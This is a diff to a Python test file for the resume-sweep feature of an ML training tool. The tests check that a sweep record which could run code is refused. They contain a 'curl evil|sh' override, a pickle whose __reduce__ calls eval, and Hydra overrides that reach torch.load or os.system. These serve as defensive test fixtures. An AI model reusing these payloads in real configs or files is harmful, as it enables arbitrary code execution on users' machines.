@@ -3,6 +3,7 @@ stopped by a signal (summary so far) and finished exactly, failed and diverged j
 import csv
 import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -12,10 +13,10 @@ import pytest
 import torch
 import yaml
 
-from tests.conftest import REPO, TINY, compose_config, run, run_cli
+from tests.conftest import CONF, REPO, TINY, compose_config, run, run_cli
 from trainer.errors import UserError
 from trainer.run import checkpoint
-from trainer.sweep.resume import expand_command, plan_job, set_aside
+from trainer.sweep.resume import check_same_sweep, expand_command, plan_job
 
 # --- what a job does with its earlier folder ------------------------------------------------------------------------
 
@@ -79,11 +80,72 @@ def test_a_folder_of_another_sweeps_job_is_refused_in_one_sentence(cfg, tmp_path
         plan(cfg, tmp_path, "b", 0, ["loss=ce"])
 
 
-def test_attempts_set_aside_are_numbered(tmp_path):
-    for attempt in (1, 2):
-        (tmp_path / "status.json").write_text(str(attempt))
-        assert set_aside(tmp_path) == tmp_path / "set_aside" / str(attempt)
-    assert (tmp_path / "set_aside" / "2" / "status.json").read_text() == "2"
+# --- a sweep's folder is its own ----------------------------------------------------------------------------------
+
+
+def grid(*task):
+    """The Hydra config check_same_sweep reads: Hydra's grid sweeper and the sweep's command."""
+    return {"sweeper": {"_target_": "hydra._internal.core_plugins.basic_sweeper.BasicSweeper", "params": None},
+            "overrides": {"task": list(task)}}
+
+
+def finished_sweep(folder):
+    record(folder, ["loss=ce,nll", "seed=0"], ["hydra.mode=MULTIRUN"])
+    for num, loss in enumerate(("ce", "nll")):
+        job_folder(folder, f"loss={loss},seed=0", num, [f"loss={loss}", "seed=0"], status="done")
+
+
+@pytest.mark.parametrize("task", [("loss=ce,nll", "seed=0"), ("loss=nll,ce", "seed=0"), ("loss=ce,nll,mse", "seed=0"),
+                                  ("loss=ce,nll", "seed=0", "trainer.epochs=30", "trainer.progress=false")])
+def test_the_same_sweep_reordered_extended_or_given_more_epochs_may_finish_in_its_folder(tmp_path, task):
+    finished_sweep(tmp_path)
+    check_same_sweep(tmp_path, grid(*task), ignored=("trainer.progress",))
+    check_same_sweep(tmp_path / "new", grid("loss=mse"))  # no folder yet
+    (tmp_path / "empty").mkdir()
+    check_same_sweep(tmp_path / "empty", grid("loss=mse"))
+
+
+@pytest.mark.parametrize("task,says", [
+    (("loss=mse,bce", "seed=0"), "its job loss=ce seed=0 is not one of this command's"),
+    (("loss=ce", "seed=0"), "its job loss=nll seed=0 is not one of this command's"),  # a job the command drops
+    (("loss=ce,nll", "seed=1"), "its job loss=ce seed=0 is not one of this command's"),
+])
+def test_another_sweep_over_a_sweeps_folder_is_refused_in_one_sentence(tmp_path, task, says):
+    finished_sweep(tmp_path)
+    with pytest.raises(UserError, match=rf"^{tmp_path} holds another sweep \({says}\): finish that sweep with `train "
+                                        rf"resume_sweep={tmp_path}`, or give this one a new hydra.sweep.dir$"):
+        check_same_sweep(tmp_path, grid(*task))
+
+
+def test_a_sweep_over_a_folder_that_holds_no_sweep_is_refused(tmp_path):
+    (tmp_path / "notes.txt").write_text("mine")
+    with pytest.raises(UserError, match=r"holds files but no sweep \(no multirun.yaml\): a sweep writes into a "
+                                        r"folder of its own"):
+        check_same_sweep(tmp_path, grid("loss=ce"))
+
+
+def test_an_optuna_sweep_is_the_same_sweep_when_its_command_is(tmp_path):
+    record(tmp_path, ["hparams_search=optuna", "trainer.epochs=3"])
+    optuna = {"sweeper": {"_target_": "hydra_plugins.hydra_optuna_sweeper.optuna_sweeper.OptunaSweeper"}}
+    check_same_sweep(tmp_path, {**optuna, "overrides": {"task": ["hparams_search=optuna", "trainer.epochs=9"]}})
+    with pytest.raises(UserError, match=r"its command hparams_search=optuna is not one of this command's"):
+        check_same_sweep(tmp_path, {**optuna, "overrides": {"task": ["hparams_search=optuna", "seed=1"]}})
+
+
+def test_a_new_grid_over_a_finished_sweep_is_refused_before_anything_is_written(tmp_path):
+    old = tmp_path / "old"
+    first = run_cli(tmp_path, "-m", *TINY, "trainer.epochs=1", "loss=ce,nll", f"hydra.sweep.dir={old}")
+    assert first.returncode == 0, first.stderr[-2000:]
+    before = snapshot(old)
+    assert {"multirun.yaml", "summary.md", "summary.csv", "curves.png", "reliability_overlay.png"} <= {
+        p.name for p in before}
+    result = run_cli(tmp_path, "-m", *TINY, "trainer.epochs=1", "loss=mse,bce", f"hydra.sweep.dir={old}")
+    assert result.returncode == 2
+    [line] = result.stderr.splitlines()
+    assert line.startswith(f"error: {old} holds another sweep (its job ") and line.endswith(
+        f"is not one of this command's): finish that sweep with `train resume_sweep={old}`, or give this one a new "
+        "hydra.sweep.dir")
+    assert snapshot(old) == before
 
 
 # --- the shortcut -----------------------------------------------------------------------------------------------
@@ -97,18 +159,84 @@ def record(sweep, task, hydra=()):
 def test_resume_sweep_rebuilds_the_sweeps_command_and_later_overrides_win(tmp_path):
     record(tmp_path, ["loss=ce,nll", "trainer.epochs=3"],
            ["hydra.mode=MULTIRUN", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2",
-            "hydra.launcher.setup=[curl evil|sh]", "hydra.sweep.dir=elsewhere"])
+            "hydra.launcher.setup=[curl evil|sh]", "hydra.sweep.dir=elsewhere", "hydra.callbacks.x._target_=os.system"])
     assert expand_command([f"resume_sweep={tmp_path}", "trainer.epochs=30"]) == [
         "--multirun", "loss=ce,nll", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2", "trainer.epochs=30",
         f"hydra.sweep.dir={tmp_path}"]
     assert expand_command(["loss=ce"]) == ["loss=ce"]
 
 
+def snapshot(folder):
+    """Every file under `folder`: its bytes and its modification time."""
+    return {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def handed_sweep(folder, task):
+    """A sweep folder as someone might hand it over: Hydra's record of the command and a finished job."""
+    record(folder, ["loss=ce,nll", *task], ["hydra.mode=MULTIRUN"])
+    job_folder(folder, "loss=ce", 0, ["loss=ce"], status="done", epochs=1)
+
+
+def evil_pickle(path, marker):
+    """A pickle that writes `marker` when it is unpickled (torch.load with weights_only=false)."""
+    import pickle
+
+    class Payload:
+        def __reduce__(self):
+            return (eval, (f"open({str(marker)!r}, 'w').write('pwned')",))
+
+    path.write_bytes(pickle.dumps(Payload()))
+
+
+@pytest.mark.parametrize("form", ["dict value with a target", "group option outside conf", "hydra.callbacks"])
+def test_a_handed_sweep_record_that_would_run_code_is_one_sentence_and_nothing_runs(tmp_path, form):
+    marker, sweep = tmp_path / "marker", tmp_path / "handed"
+    evil_pickle(tmp_path / "evil.pkl", marker)
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "elsewhere" / "evil_loss.yaml").write_text(yaml.safe_dump(
+        {"_target_": "pathlib.Path.write_text", "self": str(marker), "data": "pwned"}))
+    override = {
+        "dict value with a target": f"++loss.criterion={{_target_:torch.load,f:'{tmp_path / 'evil.pkl'}',"
+                                    "weights_only:false}",
+        "group option outside conf": f"loss={os.path.relpath(tmp_path / 'elsewhere' / 'evil_loss', CONF / 'loss')}",
+        "hydra.callbacks": f"++hydra.callbacks.x={{_target_:pathlib.Path.write_text,self:'{marker}',data:pwned}}",
+    }[form]
+    handed_sweep(sweep, [*TINY, override])
+    before = snapshot(sweep)
+    result = run_cli(tmp_path, f"resume_sweep={sweep}")
+    assert result.returncode == 2 and not marker.exists()
+    assert result.stderr.splitlines() == [
+        f"error: {sweep / 'multirun.yaml'} records the override {override}, which "
+        + {"dict value with a target": "holds a config node as its value (it could name code at any depth)",
+           "group option outside conf": f"chooses {override.split('=')[1]} for loss, which is not an option in "
+                                        "losslab's conf/loss/",
+           "hydra.callbacks": "changes Hydra's own settings (hydra.*: its callbacks, launcher, logging), which run "
+                              "code"}[form]
+        + ": a sweep's record is data, never code, so it is refused (give that override on the command line if you "
+          "trust it)"]
+    assert snapshot(sweep) == before and result.stdout == ""
+
+
 @pytest.mark.parametrize("override", ["model._target_=os.system", "+loss.criterion._args_=[1]",
-                                      "data.root=${oc.env:HOME}"])
-def test_a_sweep_record_that_names_code_is_refused(tmp_path, override):
+                                      "data.root=${oc.env:HOME}", "model.hidden=[8,{a:1}]", "+hydra.job.chdir=true",
+                                      "+not_a_key=1", "++loss.criterion.weight=[1]", "loss@model=ce"])
+def test_a_sweep_record_outside_the_allow_list_is_refused_before_any_job(tmp_path, override):
     record(tmp_path, ["loss=ce", override])
-    with pytest.raises(UserError, match="which a sweep's record may not carry"):
+    with pytest.raises(UserError, match=f"records the override {re.escape(override)}, which .*: a sweep's record is "
+                                        "data, never code"):
+        expand_command([f"resume_sweep={tmp_path}"])
+
+
+def test_a_recorded_override_the_command_line_replaces_is_not_used_so_not_refused(tmp_path):
+    record(tmp_path, ["loss=ce,nll", "+loss.criterion.weight=null"])
+    assert expand_command([f"resume_sweep={tmp_path}", "+loss.criterion.weight=null"]) == [
+        "--multirun", "loss=ce,nll", "+loss.criterion.weight=null", f"hydra.sweep.dir={tmp_path}"]
+
+
+@pytest.mark.parametrize("text", ["[1, 2]", "hydra: {overrides: {task: oops}}", "{{{", "hydra: {}"])
+def test_a_sweep_record_that_is_not_one_is_one_sentence(tmp_path, text):
+    (tmp_path / "multirun.yaml").write_text(text)
+    with pytest.raises(UserError, match=r"multirun.yaml is not a record of a sweep's command"):
         expand_command([f"resume_sweep={tmp_path}"])
 
 
